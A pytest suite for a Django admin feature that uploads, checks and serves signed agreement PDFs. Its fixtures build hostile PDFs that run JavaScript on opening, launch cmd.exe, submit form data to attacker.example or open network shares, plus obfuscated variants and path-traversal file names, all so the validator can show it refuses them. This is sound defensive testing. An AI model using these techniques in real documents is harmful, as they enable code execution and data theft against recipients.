"""An agreement's signed documents: uploaded through its admin page by the roles that keep
agreements, checked as PDFs, kept outside every public folder under generated names, and
downloaded only by staff who may see agreements, with real files in a per-test folder."""

import hashlib
import io
import re
import zlib

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test.client import BOUNDARY, encode_multipart
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from agreements.documents import checking
from agreements.documents.checking import safe_original_name
from agreements.documents.models import AgreementDocument
from agreements.documents.storage import files_kept_only_if_saved
from staff.roles import EDITORS, IMPORTERS, VIEWERS
from tests.factories import make_agreement
from tests.staff.admin_forms import PASSWORD, change_form_data, staff_user

pytestmark = pytest.mark.django_db

ROLES_WHO_SEE = ["superuser", EDITORS, IMPORTERS, VIEWERS]
ROLES_WHO_UPLOAD = ["superuser", EDITORS, IMPORTERS]


def pdf_bytes(*, pages=1, padding=0, password=None):
    """A real PDF made here: blank pages, and padding in its metadata to make it larger."""
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(width=595, height=842)
    if padding:
        writer.add_metadata({"/Padding": "x" * padding})
    if password:
        writer.encrypt(user_password=password, owner_password=password, algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with(change):
    """A one-page PDF made here by pypdf, ``change(writer)`` applied before it is written."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _name(value):
    return NameObject(value)


def _dictionary(**entries):
    return DictionaryObject({_name(f"/{key}"): value for key, value in entries.items()})


def javascript(code="app.alert('Signed');"):
    return _dictionary(S=_name("/JavaScript"), JS=TextStringObject(code))


def _open_with(action):
    def change(writer):
        writer.root_object[_name("/OpenAction")] = writer._add_object(action)

    return change


def _on_page(key, value):
    def change(writer):
        writer.pages[0][_name(key)] = value

    return change


def _annotation(**entries):
    annotation = _dictionary(
        Type=_name("/Annot"),
        Rect=ArrayObject([NumberObject(n) for n in (50, 50, 250, 80)]),
        **entries,
    )
    return _on_page("/Annots", ArrayObject([annotation]))


def _in_document(key, value):
    def change(writer):
        writer.root_object[_name(key)] = value

    return change


def _attached(name, content):
    def change(writer):
        writer.add_attachment(name, content)

    return change


def _both(*changes):
    def change(writer):
        for each in changes:
            each(writer)

    return change


def _link_to(uri):
    return _annotation(
        Subtype=_name("/Link"), A=_dictionary(S=_name("/URI"), URI=TextStringObject(uri))
    )


def handmade_pdf(action, *, compressed=False):
    """A one-page PDF written byte by byte whose fourth object, ``action``, the catalog runs on
    opening; ``compressed``: that object inside a Flate-compressed object stream with a
    cross-reference stream, as PDF 1.5 writers store objects (its bytes then appear nowhere)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        action,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(objects[: 3 if compressed else 4], start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not compressed:
        table = b"".join(b"%010d 00000 n \n" % offsets[number] for number in range(1, 5))
        start = len(out)
        out += b"xref\n0 5\n0000000000 65535 f \n" + table
        out += b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start
        return bytes(out)
    header = b"4 0\n"
    data = zlib.compress(header + action)
    offsets[5] = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n" % (
        len(header),
        len(data),
    )
    out += b"stream\n" + data + b"\nendstream\nendobj\n"
    start = len(out)
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    rows += [b"\x01" + offsets[number].to_bytes(4) + bytes(2) for number in (1, 2, 3)]
    rows += [b"\x02" + (5).to_bytes(4) + bytes(2), b"\x01" + offsets[5].to_bytes(4) + bytes(2)]
    rows += [b"\x01" + start.to_bytes(4) + bytes(2)]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n" % len(table)
    out += b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def png_bytes():
    """The first bytes of a PNG (signature and header chunk): an image, not a document."""
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02" + (
        b"\x00" * 64
    )


def files_under(folder):
    return sorted(path for path in folder.rglob("*") if path.is_file()) if folder.exists() else []


@pytest.fixture
def agreement():
    return make_agreement()


def _user(django_user_model, role):
    if role == "superuser":
        return django_user_model.objects.create_superuser("chief", password=PASSWORD)
    if role == "no group":
        return staff_user(django_user_model, "nogroup", group=None)
    return staff_user(django_user_model, role.lower(), group=role)


def _logged_in(client, django_user_model, role):
    user = _user(django_user_model, role)
    client.force_login(user)
    return user


def _change_url(agreement):
    return reverse("admin:agreements_agreement_change", args=[agreement.pk])


def form_data(page, **changes):
    """The change form's POST; a browser sends no file back for a kept document (the test
    helper would send its stored file as an upload)."""
    data = change_form_data(page)
    data = {key: value for key, value in data.items() if not key.endswith("-file")}
    return {**data, **changes}


def multipart(data, files):
    """A form's body as a browser sends it, the files' names exactly as given (Django's test
    client would keep only their last path part)."""
    body = encode_multipart(BOUNDARY, data)
    end = f"--{BOUNDARY}--\r\n".encode()
    parts = b"".join(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; '.encode()
        + b'filename="'
        + name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A").encode()
        + b'"\r\nContent-Type: application/pdf\r\n\r\n'
        + content
        + b"\r\n"
        for field, (name, content) in files.items()
    )
    return body[: -len(end)] + parts + end


def upload(client, agreement, content, name="signed.pdf", **fields):
    """POST the agreement's change form as a browser does, with one new document."""
    page = client.get(_change_url(agreement))
    data = form_data(page)
    index = int(data["documents-TOTAL_FORMS"])
    data.update(
        {
            "documents-TOTAL_FORMS": str(index + 1),
            f"documents-{index}-kind": fields.get("kind", "signed"),
            f"documents-{index}-title": fields.get("title", ""),
            f"documents-{index}-signed_on": fields.get("signed_on", ""),
        }
    )
    body = multipart(data, {f"documents-{index}-file": (name, content)})
    # Not MULTIPART_CONTENT itself: the test client would encode the body again.
    return client.post(
        _change_url(agreement), body, content_type=f"multipart/form-data; boundary={BOUNDARY}"
    )


def stored_document(agreement, content, name="signed.pdf", user=None):
    """A document kept as an upload keeps it: the file in DOCUMENTS_ROOT, its row."""
    from agreements.documents.admin import AgreementDocumentForm

    form = AgreementDocumentForm(
        data={"kind": "signed", "title": "", "signed_on": ""},
        files={"file": SimpleUploadedFile(name, content, "application/pdf")},
        instance=AgreementDocument(agreement=agreement),
        uploader=user,
    )
    assert form.is_valid(), form.errors
    return form.save()


def download_url(document, agreement_id=None):
    return reverse(
        "agreement_document_download",
        kwargs={
            "agreement_id": agreement_id or document.agreement_id,
            "document_id": document.pk,
        },
    )


# Uploading


@pytest.mark.parametrize("role", ROLES_WHO_UPLOAD)
def test_an_upload_is_kept_under_a_generated_name_with_its_hash(
    client, django_user_model, agreement, documents_root, media_root, role
):
    user = _logged_in(client, django_user_model, role)
    content = pdf_bytes(pages=2)

    response = upload(
        client, agreement, content, name="MOU signed 2024.pdf", title="The signed MOU"
    )

    assert response.status_code == 302, response.context and response.context["errors"]
    document = AgreementDocument.objects.get(agreement=agreement)
    assert document.sha256 == hashlib.sha256(content).hexdigest()
    assert document.size == len(content)
    assert document.original_name == "MOU signed 2024.pdf"
    assert document.uploaded_by == user
    assert re.fullmatch(rf"agreements/{agreement.pk}/[0-9a-f]{{32}}\.pdf", document.file.name)
    [kept] = files_under(documents_root)
    assert kept == documents_root / document.file.name
    assert kept.read_bytes() == content
    # Never where a web server or WhiteNoise serves files from.
    assert files_under(media_root) == []
    for public in [settings.STATIC_ROOT, *settings.STATICFILES_DIRS]:
        assert not any(path.read_bytes() == content for path in files_under(public))
    assert document.history.count() == 1


def test_the_change_page_lists_documents_with_size_hash_and_link(
    client, django_user_model, agreement
):
    editor = _logged_in(client, django_user_model, EDITORS)
    document = stored_document(agreement, pdf_bytes(), name="協定書.pdf", user=editor)

    page = client.get(_change_url(agreement)).content.decode()

    assert download_url(document) in page
    assert "協定書.pdf" in page
    assert f'title="{document.sha256}"' in page
    assert document.sha256[:12] in page
    assert "editors" in page


@pytest.mark.parametrize(
    ("content", "name", "says"),
    [
        (png_bytes(), "scan.pdf", "“scan.pdf” is not a PDF"),
        (b"%PDF-1.7\nThis is only text that starts like a PDF.\n", "broken.pdf", "cannot be read"),
        (b"", "empty.pdf", "“empty.pdf” is empty"),
        (pdf_bytes(password="secret"), "locked.pdf", "“locked.pdf” is protected by a password"),
        (b"%PDF-1.4\n%%EOF\n", "truncated.pdf", "“truncated.pdf” starts like a PDF"),
    ],
    ids=["png renamed", "text starting like a pdf", "empty", "password", "truncated"],
)
def test_a_file_that_is_no_readable_pdf_is_refused_and_nothing_is_kept(
    client, django_user_model, agreement, documents_root, content, name, says
):
    _logged_in(client, django_user_model, EDITORS)
    versions_before = AgreementDocument.history.count()

    response = upload(client, agreement, content, name=name)

    assert response.status_code == 200
    assert says in response.content.decode()
    assert AgreementDocument.objects.count() == 0
    assert AgreementDocument.history.count() == versions_before
    assert files_under(documents_root) == []


SCRIPT = "holds content that runs when the document is opened or clicked: JavaScript."
ADVICE = (
    "Ask the partner for a copy without it; a PDF that is not digitally signed can also be "
    "printed to a new PDF (or the paper scanned) and uploaded."
)
# A PDF that runs a script on opening, as a partner's file could carry one inside it.
SCRIPTED_PDF = pdf_with(_open_with(javascript()))
UNC = "\\\\attacker.example\\share\\x.pdf"
ACTIVE = [
    (pdf_with(_open_with(javascript())), SCRIPT),
    (
        pdf_with(
            _in_document(
                "/Names",
                _dictionary(
                    JavaScript=_dictionary(
                        Names=ArrayObject([TextStringObject("go"), javascript()])
                    )
                ),
            )
        ),
        SCRIPT,
    ),
    (pdf_with(_on_page("/AA", _dictionary(O=javascript()))), SCRIPT),
    (pdf_with(_annotation(Subtype=_name("/Link"), A=javascript())), SCRIPT),
    (
        pdf_with(
            _annotation(
                Subtype=_name("/Link"),
                A=_dictionary(
                    S=_name("/URI"),
                    URI=TextStringObject("https://www.example.ac.jp/"),
                    Next=javascript(),
                ),
            )
        ),
        SCRIPT,
    ),
    (
        pdf_with(_open_with(_dictionary(S=_name("/Launch"), F=TextStringObject("cmd.exe")))),
        "holds content that runs when the document is opened or clicked: an action that "
        "starts a program or opens a file (Launch).",
    ),
    (
        pdf_with(_annotation(Subtype=_name("/RichMedia"))),
        "embedded multimedia that can run scripts (RichMedia)",
    ),
    (
        pdf_with(
            _in_document(
                "/AcroForm",
                _dictionary(Fields=ArrayObject(), XFA=TextStringObject("<xdp:xdp/>")),
            )
        ),
        "an XFA form, which can run scripts",
    ),
    (handmade_pdf(rb"<< /S /J#61vaScript /J#53 (app.alert\(1\)) >>"), SCRIPT),
    (handmade_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", compressed=True), SCRIPT),
    (
        pdf_with(
            _both(
                _attached("annex.pdf", SCRIPTED_PDF),
                _open_with(
                    _dictionary(
                        S=_name("/GoToE"),
                        T=_dictionary(R=_name("/C"), N=TextStringObject("annex.pdf")),
                    )
                ),
            )
        ),
        "an action that opens a document attached to this one (GoToE), an attached file.",
    ),
    (
        pdf_with(_open_with(_dictionary(S=_name("/GoToR"), F=TextStringObject(UNC)))),
        "an action that opens another file, which can be on a network share (GoToR).",
    ),
    (
        pdf_with(
            _open_with(
                _dictionary(
                    S=_name("/SubmitForm"),
                    F=_dictionary(
                        FS=_name("/URL"), F=TextStringObject("https://attacker.example/collect")
                    ),
                )
            )
        ),
        "an action that sends the form&#x27;s content to an address (SubmitForm).",
    ),
    (
        pdf_with(_open_with(_dictionary(S=_name("/ImportData"), F=TextStringObject(UNC)))),
        "an action that reads form data from another file (ImportData).",
    ),
    (
        pdf_with(_link_to("javascript:app.alert(1)")),
        "a link to a “javascript:” address, not to a web page or an e-mail address.",
    ),
    (
        pdf_with(_link_to(" \tJava\nScript:app.alert(1)")),
        "a link to a “javascript:” address, not to a web page or an e-mail address.",
    ),
    (
        pdf_with(_link_to("file:///C:/Windows/System32/calc.exe")),
        "a link to a “file:” address, not to a web page or an e-mail address.",
    ),
    (
        pdf_with(_link_to(UNC)),
        "a link to an address with no scheme (http, https or mailto), which can be a file or "
        "a network share.",
    ),
]


@pytest.mark.parametrize(
    ("content", "says"),
    ACTIVE,
    ids=[
        "script on opening",
        "named script",
        "script on opening a page",
        "script on clicking a link",
        "script chained after a web link",
        "launch on opening",
        "rich media",
        "xfa form",
        "names spelled with #-escapes",
        "script in a compressed object stream",
        "opening an attached pdf that holds a script",
        "opening a file on a network share",
        "sending the form elsewhere",
        "importing form data from a network share",
        "javascript link",
        "javascript link with blanks a browser drops",
        "file link",
        "network share link",
    ],
)
def test_a_pdf_with_content_that_runs_is_refused_saying_why_and_nothing_is_kept(
    client, django_user_model, agreement, documents_root, content, says
):
    _logged_in(client, django_user_model, EDITORS)
    versions_before = AgreementDocument.history.count()

    response = upload(client, agreement, content, name="agreement.pdf")

    assert response.status_code == 200
    page = response.content.decode()
    assert "“agreement.pdf” holds content that runs when the document is opened" in page
    assert says in page
    assert ADVICE in page
    assert AgreementDocument.objects.count() == 0
    assert AgreementDocument.history.count() == versions_before
    assert files_under(documents_root) == []


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (pdf_with(_attached("annex.pdf", SCRIPTED_PDF)), "an attached file."),
        (pdf_with(_attached("terms.txt", b"Terms")), "an attached file."),
        (
            pdf_with(
                _annotation(
                    Subtype=_name("/FileAttachment"),
                    FS=_dictionary(Type=_name("/Filespec"), F=TextStringObject("annex.exe")),
                )
            ),
            "a file attached to a page (FileAttachment).",
        ),
    ],
    ids=["attached pdf with a script", "attached text", "file attachment annotation"],
)
def test_a_pdf_that_carries_files_is_refused_saying_why_and_nothing_is_kept(
    client, django_user_model, agreement, documents_root, content, says
):
    """Attachments are not checked, and a signed agreement has none to carry."""
    _logged_in(client, django_user_model, EDITORS)

    response = upload(client, agreement, content, name="agreement.pdf")

    assert response.status_code == 200
    page = response.content.decode()
    assert f"“agreement.pdf” carries files inside it: {says}" in page
    assert "A signed agreement has no business carrying attachments" in page
    assert "Ask the partner for a copy without attachments." in page
    assert AgreementDocument.objects.count() == 0
    assert files_under(documents_root) == []


def test_a_pdf_of_more_objects_than_are_checked_is_refused(
    client, django_user_model, agreement, documents_root, monkeypatch
):
    """Finding what runs means reading every object: a file made of more than any document
    is refused rather than holding the worker (the limit is 50,000; 40 here)."""
    monkeypatch.setattr(checking, "MAX_OBJECTS", 40)
    _logged_in(client, django_user_model, EDITORS)

    response = upload(client, agreement, pdf_bytes(pages=50), name="annexes.pdf")

    assert response.status_code == 200
    assert (
        "“annexes.pdf” is made of more than 40 objects, far more than a signed document ever "
        "is, so it could not be checked for content that runs."
    ) in response.content.decode()
    assert AgreementDocument.objects.count() == 0
    assert files_under(documents_root) == []


def test_a_pdf_that_is_a_web_page_first_is_refused_and_nothing_is_kept(
    client, django_user_model, agreement, documents_root
):
    _logged_in(client, django_user_model, EDITORS)
    page_first = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"

    response = upload(client, agreement, page_first + b"\n" + pdf_bytes(), name="scan.pdf")

    assert response.status_code == 200
    assert (
        f"“scan.pdf” does not begin as a PDF does: {len(page_first) + 1} bytes of other "
        "content (such as a web page&#x27;s) come before its PDF header"
    ) in response.content.decode()
    assert AgreementDocument.objects.count() == 0
    assert files_under(documents_root) == []


def test_a_pdf_with_web_links_and_a_form_field_is_kept(client, django_user_model, agreement):
    """Only what runs is refused: links to a web page or an e-mail address and a form field
    without scripts are what signed PDFs often hold."""
    _logged_in(client, django_user_model, EDITORS)
    field = _dictionary(
        FT=_name("/Tx"), T=TextStringObject("Signatory"), V=TextStringObject("Aiko Tanaka")
    )
    content = pdf_with(
        lambda writer: (
            _annotation(
                Subtype=_name("/Link"),
                A=_dictionary(
                    S=_name("/URI"),
                    URI=TextStringObject("https://www.example.ac.jp/"),
                    Next=_dictionary(
                        S=_name("/URI"), URI=TextStringObject("mailto:intl@example.ac.jp")
                    ),
                ),
            )(writer),
            _in_document("/AcroForm", _dictionary(Fields=ArrayObject([field])))(writer),
        )
    )

    response = upload(client, agreement, content, name="linked.pdf")

    assert response.status_code == 302
    assert AgreementDocument.objects.get().original_name == "linked.pdf"


def test_a_file_over_the_limit_is_refused_as_it_arrives(
    client, django_user_model, agreement, documents_root, settings
):
    settings.AGREEMENT_DOCUMENT_MAX_BYTES = 50_000
    _logged_in(client, django_user_model, EDITORS)
    content = pdf_bytes(padding=80_000)
    assert len(content) > 50_000

    response = upload(client, agreement, content, name="large.pdf")

    assert response.status_code == 200
    page = response.content.decode()
    assert "“large.pdf” is" in page
    assert "the limit is 50,000 bytes (AGREEMENT_DOCUMENT_MAX_BYTES)" in page
    assert AgreementDocument.objects.count() == 0
    assert files_under(documents_root) == []


def test_documents_uploaded_together_leave_no_temporary_file_once_answered(
    client, django_user_model, agreement, documents_root, settings, tmp_path
):
    """Three new documents in one save, the first past the limit: the page names it, and
    none of the three temporary files is left on disk, while the answer is still being held
    (as a server holds it until it is sent)."""
    settings.AGREEMENT_DOCUMENT_MAX_BYTES = 50_000
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 10_000  # so these wait in temporary files
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path / "uploading"
    settings.FILE_UPLOAD_TEMP_DIR.mkdir()
    _logged_in(client, django_user_model, EDITORS)
    data = form_data(client.get(_change_url(agreement)))
    data["documents-TOTAL_FORMS"] = "3"
    for index in range(3):
        data[f"documents-{index}-kind"] = "signed"
    files = {
        "documents-0-file": ("large.pdf", pdf_bytes(padding=80_000)),
        "documents-1-file": ("amendment-1.pdf", pdf_bytes(padding=20_000)),
        "documents-2-file": ("amendment-2.pdf", pdf_bytes(padding=20_000)),
    }

    response = client.post(
        _change_url(agreement),
        multipart(data, files),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )

    assert response.status_code == 200
    assert "the limit is 50,000 bytes (AGREEMENT_DOCUMENT_MAX_BYTES)" in response.content.decode()
    assert files_under(settings.FILE_UPLOAD_TEMP_DIR) == []
    assert AgreementDocument.objects.count() == 0
    assert files_under(documents_root) == []


def test_a_file_within_the_document_limit_but_over_the_import_limit_is_kept(
    client, django_user_model, agreement, settings
):
    """Documents have their own limit while the upload streams in, not the imports' one."""
    settings.IMPORT_MAX_UPLOAD_BYTES = 10_000
    _logged_in(client, django_user_model, EDITORS)

    response = upload(client, agreement, pdf_bytes(padding=30_000), name="long.pdf")

    assert response.status_code == 302
    assert AgreementDocument.objects.get().size > 30_000


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system.ini.pdf", "system.ini.pdf"),
        ("/var/lib/x.pdf", "x.pdf"),
        ("report\u202efdp.exe", "reportfdp.exe.pdf"),
        ("tab\tand bell\x07.pdf", "taband bell.pdf"),
    ],
)
def test_the_uploaded_name_is_only_data(
    client, django_user_model, agreement, documents_root, name, kept
):
    _logged_in(client, django_user_model, EDITORS)

    response = upload(client, agreement, pdf_bytes(), name=name)

    assert response.status_code == 302
    document = AgreementDocument.objects.get()
    assert document.original_name == kept
    [stored] = files_under(documents_root)
    assert stored.parent == documents_root / "agreements" / str(agreement.pk)
    assert re.fullmatch(r"[0-9a-f]{32}\.pdf", stored.name)


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\協定書.PDF", "協定書.pdf"),
        ("..", ""),
        ("...pdf", "pdf.pdf"),
        ("report\u202efdp.exe", "reportfdp.exe.pdf"),
        ("a\x00b\x1b.pdf", "ab.pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ],
)
def test_the_kept_name_has_no_path_or_control_characters(name, kept):
    assert safe_original_name(name) == kept


def test_a_viewer_sees_the_documents_but_cannot_upload(
    client, django_user_model, agreement, documents_root
):
    document = stored_document(agreement, pdf_bytes())
    _logged_in(client, django_user_model, VIEWERS)

    page = client.get(_change_url(agreement))

    assert page.status_code == 200
    html = page.content.decode()
    assert download_url(document) in html
    assert 'type="file"' not in html
    data = form_data(page)
    data.update(
        {
            "documents-TOTAL_FORMS": "1",
            "documents-0-kind": "signed",
            "documents-0-file": SimpleUploadedFile("x.pdf", pdf_bytes(), "application/pdf"),
        }
    )
    assert client.post(_change_url(agreement), data).status_code == 403
    assert AgreementDocument.objects.count() == 1
    assert len(files_under(documents_root)) == 1


def test_replacing_the_file_keeps_the_old_one_and_its_hash_in_the_history(
    client, django_user_model, agreement, documents_root
):
    _logged_in(client, django_user_model, EDITORS)
    first, second = pdf_bytes(pages=1), pdf_bytes(pages=3)
    upload(client, agreement, first, name="first.pdf")
    document = AgreementDocument.objects.get()
    old_name = document.file.name

    page = client.get(_change_url(agreement))
    data = form_data(page)
    data["documents-0-file"] = SimpleUploadedFile("second.pdf", second, "application/pdf")
    response = client.post(_change_url(agreement), data)

    assert response.status_code == 302
    document.refresh_from_db()
    assert document.sha256 == hashlib.sha256(second).hexdigest()
    assert document.original_name == "second.pdf"
    previous = document.history.order_by("history_id").first()
    assert previous.file == old_name
    assert previous.original_name == "first.pdf"
    assert previous.sha256 == hashlib.sha256(first).hexdigest()
    kept = [path.read_bytes() for path in files_under(documents_root)]
    assert sorted(kept) == sorted([first, second])


def test_deleting_a_document_keeps_its_file_for_the_history(
    client, django_user_model, agreement, documents_root
):
    _logged_in(client, django_user_model, EDITORS)
    document = stored_document(agreement, pdf_bytes())
    page = client.get(_change_url(agreement))
    data = form_data(page, **{"documents-0-DELETE": "on"})

    assert client.post(_change_url(agreement), data).status_code == 302

    assert AgreementDocument.objects.count() == 0
    deleted = AgreementDocument.history.filter(id=document.pk, history_type="-").get()
    assert (documents_root / deleted.file).is_file()


@pytest.mark.parametrize("role", ["superuser", EDITORS])
def test_restoring_a_deleted_agreement_brings_its_documents_back(
    client, django_user_model, agreement, documents_root, role
):
    _logged_in(client, django_user_model, role)
    content = pdf_bytes()
    upload(client, agreement, content, name="signed.pdf")
    document = AgreementDocument.objects.get()
    delete_url = reverse("admin:agreements_agreement_delete", args=[agreement.pk])
    assert client.post(delete_url, {"post": "yes"}).status_code == 302
    assert AgreementDocument.objects.count() == 0
    version = agreement.history.get(history_type="-")

    response = client.post(
        reverse("admin:deleted_records"),
        {"model": "agreements.agreement", "version": version.history_id},
    )

    assert response.status_code == 302
    restored = AgreementDocument.objects.get()
    assert (restored.pk, restored.file.name, restored.sha256) == (
        document.pk,
        document.file.name,
        hashlib.sha256(content).hexdigest(),
    )
    download = client.get(download_url(restored))
    assert b"".join(download.streaming_content) == content


def test_a_file_whose_row_is_rolled_back_does_not_stay_on_disk(agreement, documents_root):
    with files_kept_only_if_saved(), pytest.raises(RuntimeError), transaction.atomic():
        stored_document(agreement, pdf_bytes())
        assert len(files_under(documents_root)) == 1
        raise RuntimeError("the rest of the save failed")

    assert AgreementDocument.objects.count() == 0
    assert files_under(documents_root) == []


def test_a_saved_file_stays_when_the_request_ends(agreement, documents_root):
    with files_kept_only_if_saved():
        stored_document(agreement, pdf_bytes())

    assert len(files_under(documents_root)) == 1


# Downloading


@pytest.mark.parametrize("role", ROLES_WHO_SEE)
def test_staff_who_see_agreements_download_the_pdf(client, django_user_model, agreement, role):
    content = pdf_bytes()
    document = stored_document(agreement, content, name="協定書（2024年）.pdf")
    _logged_in(client, django_user_model, role)

    response = client.get(download_url(document))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    cache_control = {part.strip() for part in response["Cache-Control"].split(",")}
    assert {"private", "no-store"} <= cache_control
    assert response["Content-Disposition"] == (
        "attachment; filename=\"2024.pdf\"; filename*=UTF-8''"
        "%E5%8D%94%E5%AE%9A%E6%9B%B8%EF%BC%882024%E5%B9%B4%EF%BC%89.pdf"
    )


@pytest.mark.parametrize("role", ROLES_WHO_SEE)
def test_the_download_address_takes_no_post(client, django_user_model, agreement, role):
    document = stored_document(agreement, pdf_bytes())
    _logged_in(client, django_user_model, role)

    assert client.post(download_url(document)).status_code == 405


def test_a_staff_user_in_no_group_is_refused(client, django_user_model, agreement):
    document = stored_document(agreement, pdf_bytes())
    _logged_in(client, django_user_model, "no group")

    assert client.get(download_url(document)).status_code == 403
    assert client.post(download_url(document)).status_code == 403
    # Whether a document exists is not told either.
    missing = reverse(
        "agreement_document_download", kwargs={"agreement_id": 999999, "document_id": 999999}
    )
    assert client.get(missing).status_code == 403


@pytest.mark.parametrize("method", ["get", "post"])
def test_an_anonymous_visitor_is_sent_to_log_in(client, agreement, method):
    document = stored_document(agreement, pdf_bytes())

    response = getattr(client, method)(download_url(document))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


def test_a_user_who_lost_staff_status_is_sent_to_log_in(client, django_user_model, agreement):
    document = stored_document(agreement, pdf_bytes())
    user = _logged_in(client, django_user_model, VIEWERS)
    user.is_staff = False
    user.save()

    assert client.get(download_url(document)).status_code == 302


def test_a_document_of_another_agreement_or_none_is_not_found(client, django_user_model):
    first, second = make_agreement(), make_agreement()
    document = stored_document(first, pdf_bytes())
    _logged_in(client, django_user_model, "superuser")

    assert client.get(download_url(document, agreement_id=second.pk)).status_code == 404
    missing = reverse(
        "agreement_document_download",
        kwargs={"agreement_id": first.pk, "document_id": document.pk + 1000},
    )
    assert client.get(missing).status_code == 404


def test_a_document_whose_file_is_missing_is_not_found(
    client, django_user_model, agreement, documents_root
):
    document = stored_document(agreement, pdf_bytes())
    (documents_root / document.file.name).unlink()
    _logged_in(client, django_user_model, "superuser")

    assert client.get(download_url(document)).status_code == 404


# Nothing public


@pytest.mark.parametrize("role", ["anonymous", "superuser"])
def test_no_address_serves_the_media_or_documents_folders(
    client, django_user_model, agreement, documents_root, media_root, role
):
    document = stored_document(agreement, pdf_bytes())
    media_root.mkdir(parents=True, exist_ok=True)
    (media_root / "probe.txt").write_text("in the media folder")
    if role == "superuser":
        _logged_in(client, django_user_model, role)
    stored = document.file.name

    for path in [
        "/media/probe.txt",
        f"/media/{stored}",
        f"/documents/{stored}",
        f"/static/{stored}",
        f"/static/../documents/{stored}",
        "/static/../media/probe.txt",
        f"/{stored}",
    ]:
        response = client.get(path)
        assert response.status_code == 404, path


def test_the_documents_folder_is_none_of_the_public_ones():
    documents = settings.DOCUMENTS_ROOT.resolve()
    for public in [settings.MEDIA_ROOT, settings.STATIC_ROOT, *settings.STATICFILES_DIRS]:
        public = public.resolve()
        assert documents != public
        assert public not in documents.parents
        assert documents not in public.parents


def test_a_documents_folder_inside_a_public_one_stops_the_start(tmp_path):
    from tests.commands import manage

    result = manage(
        "check",
        DJANGO_DEBUG="1",
        DJANGO_MEDIA_ROOT=str(tmp_path / "media"),
        DJANGO_DOCUMENTS_ROOT=str(tmp_path / "media" / "documents"),
    )

    assert result.returncode != 0
    assert "DJANGO_DOCUMENTS_ROOT" in result.stderr


# Roles


def test_editors_and_importers_keep_documents_and_viewers_read_them():
    def codenames(name):
        return set(
            Group.objects.get(name=name)
            .permissions.filter(content_type__model="agreementdocument")
            .values_list("codename", flat=True)
        )

    keep = {
        "add_agreementdocument",
        "change_agreementdocument",
        "delete_agreementdocument",
        "view_agreementdocument",
    }
    assert codenames(EDITORS) == keep
    assert codenames(IMPORTERS) == keep
    assert codenames(VIEWERS) == {"view_agreementdocument"}
